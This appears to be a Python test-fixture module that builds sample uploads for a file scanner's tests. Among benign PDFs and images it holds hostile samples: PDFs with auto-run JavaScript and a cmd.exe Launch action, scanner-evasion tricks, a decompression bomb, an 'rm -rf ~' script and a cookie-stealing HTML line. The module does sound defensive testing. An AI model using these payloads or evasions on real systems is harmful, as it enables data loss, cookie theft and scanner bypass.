"""Sample upload files, made in memory so the suite ships no binaries and each case says how it is built.

Valid files come from reportlab and Pillow, as a scanner or phone would make them; hostile and
broken ones are built by hand, byte by byte, where that is the point.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image
from reportlab.lib.pagesizes import A4
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas


def noise_image(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """A picture with detail, so that its JPEG has a long scan to cut short."""
    noise = Image.effect_noise(size, 64)
    return noise if mode == "L" else Image.merge("RGB", (noise, noise.rotate(90), noise.transpose(0)))


def image_bytes(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    buffer = io.BytesIO()
    image = noise_image(size, "L" if mode == "L" else "RGB")
    if mode not in {"L", "RGB"}:
        image = image.convert(mode)
    image.save(buffer, format=fmt, **save)
    return buffer.getvalue()


def png_bytes(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> bytes:
    return image_bytes("PNG", size, mode)


def jpeg_bytes(size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    return image_bytes("JPEG", size, quality=90, **save)


def truncated(data: bytes, fraction: float = 0.6) -> bytes:
    return data[: int(len(data) * fraction)]


def png_header_only(width: int, height: int, bit_depth: int = 1, colour_type: int = 0) -> bytes:
    """A PNG whose IHDR claims width × height, with one tiny IDAT: megabytes claimed, bytes sent.

    Checksums are right, so only the claimed size gives it away.
    """

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def reportlab_pdf(*, with_photo: bool = False, encrypt: str | None = None) -> bytes:
    """A one-page consent letter as reportlab writes it, optionally with a JPEG 'scan' on the page."""
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4, encrypt=encrypt)
    page.drawString(72, 770, "Consent letter - signed")
    if with_photo:
        page.drawImage(ImageReader(io.BytesIO(jpeg_bytes((400, 300)))), 72, 400, width=400, height=300)
    page.showPage()
    page.save()
    return buffer.getvalue()


def handmade_pdf(*extra_objects: bytes, catalog_extra: bytes = b"", trailer_extra: bytes = b"") -> bytes:
    """A minimal, well-formed PDF with a correct xref table; extra objects are numbered from 4.

    Catalog is 1, pages 2, the page 3, so `catalog_extra=b"/OpenAction 4 0 R"` points at the
    first extra object.
    """
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer_extra + b" >>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream_object(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(number: int, body: bytes, *, compress: bool = True) -> bytes:
    """An object stream (PDF 1.5) holding object `number`, compressed as real writers do."""
    header = b"%d 0 " % number
    data = header + body
    dictionary = b"/Type /ObjStm /N 1 /First %d" % len(header)
    if compress:
        return stream_object(zlib.compress(data), dictionary + b" /Filter /FlateDecode")
    return stream_object(data, dictionary)


JAVASCRIPT_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\)) >>"

PDF_WITH_OPEN_ACTION_JS = handmade_pdf(JAVASCRIPT_ACTION, catalog_extra=b"/OpenAction 4 0 R")
PDF_WITH_ESCAPED_JS = handmade_pdf(
    b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", catalog_extra=b"/OpenAction 4 0 R"
)
PDF_WITH_JS_IN_OBJECT_STREAM = handmade_pdf(
    object_stream(5, JAVASCRIPT_ACTION), catalog_extra=b"/OpenAction 5 0 R"
)
PDF_WITH_JS_IN_OBJECT_STREAM_WITHOUT_TYPE = handmade_pdf(
    stream_object(zlib.compress(b"5 0 " + JAVASCRIPT_ACTION), b"/N 1 /First 4 /Filter /FlateDecode"),
    catalog_extra=b"/OpenAction 5 0 R",
)
PDF_WITH_LZW_OBJECT_STREAM = handmade_pdf(
    stream_object(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode")
)


def pdf_with_object_stream_bomb() -> bytes:
    """40 kB that inflate to 40 MB of "dictionaries": a function, so only its test pays for it."""
    spaces = zlib.compress(b"5 0 " + b" " * (40 * 1024 * 1024), 9)
    return handmade_pdf(stream_object(spaces, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))


PDF_WITH_CORRUPT_OBJECT_STREAM = handmade_pdf(
    stream_object(b"x\x9c\x01\x02 not deflate", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
)
PDF_WITH_STREAM_IN_OBJECT_STREAM = handmade_pdf(object_stream(5, stream_object(b"data")))
# Tricks to make a scanner skip the script while a reader still runs it.
PDF_WITH_JS_AFTER_FAKE_STREAM_IN_STRING = handmade_pdf(
    b"<< /T (>>stream\n) >>", JAVASCRIPT_ACTION, b"<< /T (endstream) >>", catalog_extra=b"/OpenAction 5 0 R"
)
PDF_WITH_JS_BEYOND_STREAM_LENGTH = handmade_pdf(
    # A reader that trusts /Length sees object 9; one that looks for "endstream" sees stream data.
    b"<< /Length 2 >>\nstream\nab\nendobj\n9 0 obj " + JAVASCRIPT_ACTION + b"\nendobj\nendstream",
    catalog_extra=b"/OpenAction 9 0 R",
)
PDF_WITH_LAUNCH = handmade_pdf(
    b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", catalog_extra=b"/OpenAction 4 0 R"
)
PDF_WITH_PAGE_AUTO_ACTION = handmade_pdf(
    b"<< /S /URI /URI (http://example.invalid/) >>", catalog_extra=b"/AA << /WC 4 0 R >>"
)
PDF_WITH_SUBMIT_FORM = handmade_pdf(b"<< /S /SubmitForm /F (http://example.invalid/) >>")
PDF_WITH_EMBEDDED_FILE = handmade_pdf(
    stream_object(b"MZ\x90\x00 not really a program", b"/Type /EmbeddedFile"),
    b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
    catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
)
PDF_ENCRYPTED_BY_TRAILER = handmade_pdf(
    b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>",
    trailer_extra=b"/Encrypt 4 0 R /ID [<01> <01>]",
)
# Harmless PDFs that an over-eager scan would refuse.
PDF_WITH_JS_BYTES_IN_IMAGE_DATA = handmade_pdf(
    stream_object(
        b"\xff\xd8\xff\xe0 binary /JS /JavaScript /Launch /AA junk (unbalanced << \xff\xd9",
        b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode",
    )
)
PDF_WITH_JS_WORDS_IN_TEXT = handmade_pdf(b"<< /Title (How to turn off /JavaScript \\(and /Launch\\)) >>")
PDF_WITH_OPEN_ACTION_FIT = handmade_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit]")
PDF_WITH_UNCOMPRESSED_OBJECT_STREAM = handmade_pdf(
    object_stream(5, b"<< /Producer (scanner) >>", compress=False)
)


def pdf_cases() -> dict[str, bytes]:
    """Built lazily: reportlab output is fast, but not free at import time."""
    good = reportlab_pdf()
    return {
        "good": good,
        "good_with_photo": reportlab_pdf(with_photo=True),
        "encrypted": reportlab_pdf(encrypt="secret"),
        "truncated": truncated(good, 0.7),
        "junk_before_header": b"Content-Type: application/pdf\r\n\r\n" + good,
    }


EXE_HEADER = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 256
)
ELF_HEADER = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
SHELL_SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>scan</title></head><body><script>alert(1)</script></body></html>\n"
)
HTML_FRAGMENT = b"\xef\xbb\xbf  <script>document.location='http://example.invalid/'+document.cookie</script>"
SVG_DRAWING = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script>'
    b'<rect width="10" height="10"/></svg>\n'
)
PLAIN_TEXT = "姓名,身份证号\n张三,110101199003071234\n".encode()
HEIC_HEADER = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x00meta" + b"\x00" * 64
AVIF_HEADER = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 64
MP4_HEADER = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00" * 64
RAR_HEADER = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32
OLE2_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def word_document() -> bytes:
    """The start of a .docx: OOXML packages put [Content_Types].xml first."""
    return zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
